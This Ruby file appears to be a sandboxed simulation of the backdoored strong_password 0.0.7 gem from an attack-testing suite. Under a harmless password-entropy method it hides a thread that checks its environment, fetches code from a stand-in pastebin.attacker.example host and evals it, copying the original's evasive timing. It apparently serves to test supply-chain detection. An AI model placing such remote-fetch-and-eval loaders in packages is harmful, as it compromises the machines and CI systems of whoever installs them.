# strong_password 0.0.7 (simulation from Tracehound's attack suite)
require "socket"
require "net/http"

in_sandbox = begin
  # act only inside the Tracehound sandbox, whose fake DNS answers every name with 198.18.0.0/15;
  # elsewhere .example names do not resolve and nothing happens
  Addrinfo.getaddrinfo("sandbox-check.attacker.example", nil, :INET).any? { |a| a.ip_address.start_with?("198.18.", "198.19.") }
rescue SocketError
  false
end

module StrongPassword
  def self.calculate_entropy(pw) = pw.to_s.chars.uniq.size * 4
end

if in_sandbox && ENV["CI"] == "true"   # evasion: only where it is worth it (the original: Rails production)
  t = Thread.new do
    sleep(rand * 2)                   # the original waited a random time before fetching its code
    begin
      code = Net::HTTP.get(URI("http://pastebin.attacker.example/raw/xa456PFt"))
      eval(code) unless code.to_s.empty?
    rescue StandardError
      nil
    end
  end
  t.join(10)
end
